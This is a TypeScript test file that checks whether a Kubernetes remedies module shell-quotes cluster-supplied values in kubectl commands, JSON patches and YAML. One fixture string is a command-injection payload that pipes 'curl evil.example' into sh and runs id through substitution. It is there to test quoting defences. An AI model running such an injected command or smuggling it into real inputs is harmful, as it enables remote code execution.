import { parse } from 'yaml';
import { jsonPatchRemedy } from './jsonPatch';
import { resourceOf } from '../../../commands/kubectl';
import {
  commandRemedy,
  labelCommand,
  patchCommand,
  yamlRemedy,
} from './remedies';

const SERVICE = {
  apiVersion: 'v1',
  kind: 'Service',
  namespace: 'shop',
  name: 'orders',
};
const HOSTILE = "x'; curl evil.example | sh; echo '$(id)`id`\"\\";
const QUOTED = `x'\\''; curl evil.example | sh; echo '\\''$(id)\`id\`"\\`;

describe('remedies', () => {
  it('quotes what comes from a cluster, wherever it stands in a command', () => {
    const { text } = commandRemedy(
      'east',
      ['kubectl', 'annotate', ...resourceOf(SERVICE), `a=${HOSTILE}`],
      labelCommand({ ...SERVICE, name: HOSTILE }, { key: 'value' }),
    );

    expect(text.split('\n')).toEqual([
      `kubectl annotate service orders --namespace shop 'a=${QUOTED}'`,
      `kubectl label service '${QUOTED}' --namespace shop key=value --overwrite`,
    ]);
  });

  it('quotes values in patches', () => {
    const value = { host: HOSTILE };

    for (const { text } of [
      jsonPatchRemedy('east', SERVICE, { op: 'replace', field: 'spec', value }),
      commandRemedy('east', patchCommand(SERVICE, value)),
    ]) {
      const [, json] = /--patch '(.*)'$/.exec(text)!;
      const back: unknown = JSON.parse(json!.replaceAll(`'\\''`, `'`));
      expect(JSON.stringify(back)).toContain(JSON.stringify(value));
      expect(json!.replaceAll(`'\\''`, '')).not.toContain(`'`);
    }
  });

  it('patches a key with dots and slashes', () => {
    const field = 'metadata.annotations[example.com/a~b]';

    expect(
      jsonPatchRemedy('east', SERVICE, { op: 'remove', field }).text,
    ).toContain('"path":"/metadata/annotations/example.com~1a~0b"');
  });

  it('writes YAML that reads back as the same objects', () => {
    const objects = [
      HOSTILE,
      'no',
      '0777',
      'a: b',
      '- a',
      '---\nb: 1',
      '*x',
    ].map(value => ({ kind: 'A', value }));

    const { text } = yamlRemedy('east', objects);

    expect(
      text.split(/^---\n/m).map(part => parse(part, { version: '1.1' })),
    ).toEqual(objects);
  });
});
